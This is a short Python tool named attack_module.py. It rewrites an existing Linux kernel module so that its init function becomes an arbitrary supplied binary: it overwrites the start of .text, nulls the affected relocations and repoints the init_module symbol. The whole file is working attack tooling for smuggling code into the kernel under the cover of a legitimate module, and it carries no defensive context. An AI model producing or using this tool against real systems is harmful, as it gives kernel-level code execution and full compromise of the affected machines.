"""attack_module.py MODULE.ko[.xz] CODE OUT.ko: a kernel module whose init function is CODE, a flat binary.

CODE goes to the start of .text, relocations of what was there become R_X86_64_NONE, and the symbol init_module points there.
"""
import lzma
import struct
import sys

module, code, out = sys.argv[1:4]
data = bytearray((lzma.open if module.endswith(".xz") else open)(module, "rb").read())
code = open(code, "rb").read()
shoff, = struct.unpack_from("<Q", data, 40)
shnum, shstrndx = struct.unpack_from("<HH", data, 60)


def section(i):
    name, kind, flags, addr, offset, size, link, info, align, entsize = struct.unpack_from("<IIQQQQIIQQ", data, shoff + 64 * i)
    return {"name": name, "kind": kind, "offset": offset, "size": size, "link": link, "info": info}


sections = [section(i) for i in range(shnum)]
names = sections[shstrndx]["offset"]


def text(at):
    return data[at:data.index(0, at)].decode()


by_name = {text(names + s["name"]): i for i, s in enumerate(sections)}
target = by_name[".text"]
assert sections[target]["size"] >= len(code), "the module is too small"
data[sections[target]["offset"]:sections[target]["offset"] + len(code)] = code
for s in sections:
    if s["kind"] == 4 and s["info"] == target:  # SHT_RELA of .text
        for at in range(s["offset"], s["offset"] + s["size"], 24):
            if struct.unpack_from("<Q", data, at)[0] < len(code) + 8:
                struct.pack_into("<Q", data, at + 8, 0)
symbols = sections[by_name[".symtab"]]
strings = sections[symbols["link"]]["offset"]
found = False
for at in range(symbols["offset"], symbols["offset"] + symbols["size"], 24):
    if text(strings + struct.unpack_from("<I", data, at)[0]) == "init_module":
        struct.pack_into("<H", data, at + 6, target)
        struct.pack_into("<Q", data, at + 8, 0)
        found = True
assert found, "no init_module"
open(out, "wb").write(data)
